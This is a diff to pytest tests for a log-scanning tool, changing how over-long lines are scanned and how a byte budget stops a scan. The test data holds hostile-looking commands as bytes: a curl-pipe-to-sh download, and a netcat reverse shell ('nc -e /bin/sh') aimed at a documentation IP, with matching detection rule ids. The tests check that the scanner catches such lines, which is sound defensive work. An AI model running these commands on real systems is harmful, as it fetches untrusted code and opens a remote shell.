@@ -11,6 +11,7 @@ from zoneinfo import ZoneInfo
 import pytest
 
 from tests.logscan.conftest import BENIGN, CAPTURED, MULTIFORMAT
+from workbench.evidence.pipeline_log import LogBudget
 from workbench.logscan.engine import Scanner, ScanOptions
 
 #: (line, rule id, UTC time or None) of every match in ci-multiformat.log, in order
@@ -127,7 +128,7 @@ def test_invalid_utf8_and_latin1_reported_once(backend: str) -> None:
     assert m.before == ("\ufffd\ufffd broken", "naïve utf-8")
 
 
-def test_eight_megabyte_line_is_cut_and_flagged(backend: str) -> None:
+def test_eight_megabyte_line_is_scanned_whole(backend: str) -> None:
     long_line = b"A" * (8 * 1024 * 1024 - 40) + b" curl -s http://x.example/a | sh"
     data = (
         b"curl -s http://x.example/first -o f "
@@ -137,14 +138,21 @@ def test_eight_megabyte_line_is_cut_and_flagged(backend: str) -> None:
         + b"\nnc -e /bin/sh 203.0.113.7 1\n"
     )
     result = _stream(data, backend, block_bytes=1 << 20)
-    assert [str(w) for w in result.warnings] == [
-        "x.log:1: line longer than 65536 bytes; only its start was scanned",
-        "x.log:2: line longer than 65536 bytes; only its start was scanned",
+    long = "line longer than 65536 bytes; scanned whole in overlapping windows (excerpts shown)"
+    assert [str(w) for w in result.warnings] == [f"x.log:1: {long}", f"x.log:2: {long}"]
+    # the match at the start of line 1 (display capped) and the one 8 MiB into line 2 are both found
+    assert [(m.line, m.rule_id) for m in result.matches] == [
+        (1, "exec.remote-download"),
+        (2, "exec.remote-script-to-shell"),
+        (3, "revshell.netcat-exec"),
     ]
-    # the match at the start of line 1 is kept (display capped), the one past 64 KiB of line 2 is not seen
-    assert [(m.line, m.rule_id) for m in result.matches] == [(1, "exec.remote-download"), (3, "revshell.netcat-exec")]
-    assert result.matches[0].text.endswith("…[63536 more characters]") and len(result.matches[0].text) < 2100
-    assert result.lines == 3
+    first, second, third = result.matches
+    assert first.text.startswith("[line of 100036 bytes] curl -s http://x.example/first -o f BBB")
+    assert first.text.endswith("+ more characters]") and len(first.text) < 2100
+    assert second.text == "[line of 8388600 bytes, from byte 8388569] curl -s http://x.example/a | sh"
+    assert second.before[0].startswith("curl -s http://x.example/first") and second.after == (third.text,)
+    assert third.before[1].startswith("AAAA") and len(third.before[1]) < 2100  # a long neighbour: its head
+    assert result.lines == 3 and all(s.count == 1 for s in result.stats.values())
 
 
 def test_truncated_gzip_keeps_lines_before_the_cut(tmp_path: Path, backend: str) -> None:
@@ -189,13 +197,12 @@ def test_match_cap_keeps_counting(backend: str) -> None:
     assert result.matches[0].before == () and result.matches[0].after == ()
 
 
-def test_max_bytes_stops_with_a_warning(backend: str) -> None:
+def test_byte_budget_stops_with_a_warning(backend: str) -> None:
     data = b"x\n" * 1000 + b"nc -e /bin/sh 203.0.113.7 1\n"
-    result = _stream(data, backend, max_bytes=1000, block_bytes=256)
+    result = _stream(data, backend, budget=LogBudget(file_bytes=1000), block_bytes=256)
     assert result.matches == [] and not result.complete and result.bytes_scanned == 1000
-    assert [w.reason for w in result.warnings] == [
-        "scan stopped after 1000 bytes (max_bytes); the rest of the file was not read"
-    ]
+    assert result.stopped == "stopped after 1000 bytes decompressed (budget)"
+    assert [w.reason for w in result.warnings] == [result.stopped]
 
 
 @pytest.mark.parametrize("bad", ["grep", ""])
